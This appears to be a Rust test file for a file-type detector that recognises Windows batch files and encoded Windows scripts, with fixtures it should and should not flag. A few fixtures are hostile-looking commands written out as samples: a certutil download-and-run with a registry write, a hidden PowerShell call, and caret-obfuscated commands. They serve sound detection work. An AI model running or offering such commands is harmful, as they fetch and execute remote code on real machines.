//! Scripts for Windows: batch files by their content, and encoded scripts.

use super::{assert_all_match, assert_matches, assert_none_match, zip::zip};

#[test]
fn batch_files_are_found_by_their_lines() {
    assert_all_match(
        "Windows_Batch_File",
        &[
            "rem lab\r\n@echo off\r\nstart calc\r\n",
            "@setlocal\r\nstart calc\r\n",
            ":: comment\r\n@ECHO OFF\r\ncls\r\n",
            "\u{feff}@echo off\r\nmkdir x\r\n",
            "\r\n\r\n   @echo off & start calc\r\n",
            "@e^cho off\r\nst^art calc\r\n",
            "echo off\r\ncalc\r\n",
            "@start calc",
            "setlocal EnableDelayedExpansion\r\nset a=calc\r\n!a!\r\n",
            "cd /d \"%~dp0\"\r\nsetup.exe\r\n",
            "if not exist x.exe goto :end\r\nx.exe\r\n:end\r\n",
            "for /f %%i in (x) do call %%i\r\n",
            "powershell -w hidden -c x\r\n",
            "cmd.exe /c start calc\r\n",
            "%ComSpec% /c calc\r\n",
            "hello\r\n@echo off\r\nstart calc\r\n",
            "start calc\r\npause\r\n",
            "@(start calc)\r\n",
            "@echo off\n\nrem serve pages\n\nnode .\\a.js ^\n\t--b ^\n\t|| exit 1\n",
            "@echo off\r\nThis and that is no command at all\r\nNor is this line of words\r\n",
            "@node \"%a%\" %*\r\n",
            "echo off&calc\r\n",
            "certutil -urlcache -f http://h/a a.exe\r\na.exe\r\nreg add HKCU\\a /v b\r\n",
        ],
    );
}

#[test]
fn texts_that_mention_commands_are_no_batch_files() {
    assert_none_match(&[
        "# Build\n\nOn Windows, create a file with these lines and start it:\n\n    @echo off\n    make html\n\nThen open the page in a browser.\n",
        "start the engine\nand wait for me\n",
        "if you are late, call me and copy the papers\n",
        "@import url(a.css);\n@media print { a { color: red } }\n",
        "@color: #fff;\n@title: 1px;\na { color: @color; }\n",
        "@if $a == 1 {\n  @for $i from 1 {\n    a: b;\n  }\n}\n",
        "@property\ndef title(self):\n    return self._title\n",
        "set nocompatible\nset ts=4\nset sw=4\nif has('x')\n  set foo\nendif\n",
        "%% A file of MATLAB\n%% title\nx = 1;\n%% end\n",
        "%Author: x\n%Title: y\n%Date: z\n",
        "echo \"x\"\ncd build\nexport A=1\nmake\n",
        "title: x\ntype: y\npath: z\n",
        "REM prompts for a name, then lists it\nSELECT name FROM users;\nEXIT\n",
        "CLS\nCOLOR 7\nFOR I = 1 TO 9\nPRINT I\nNEXT I\nEND\n",
        "echo one\necho two\n",
    ]);
}

#[test]
fn batch_files_in_archives_are_not_refused() {
    assert_matches("zip", &zip(&[("make.bat", b"@echo off\r\nstart calc\r\n")]), &[]);
}

#[test]
fn encoded_scripts_may_begin_with_comments() {
    assert_all_match(
        "Encoded_Windows_Script",
        &["#@~^XAAAAA==", "\r\n#@~^XAAAAA==", "// comment\r\n#@~^XAAAAA==code==^#~@\r\n"],
    );
    assert_none_match(&["The marks #@~^ and ==^#~@ enclose the code."]);
}
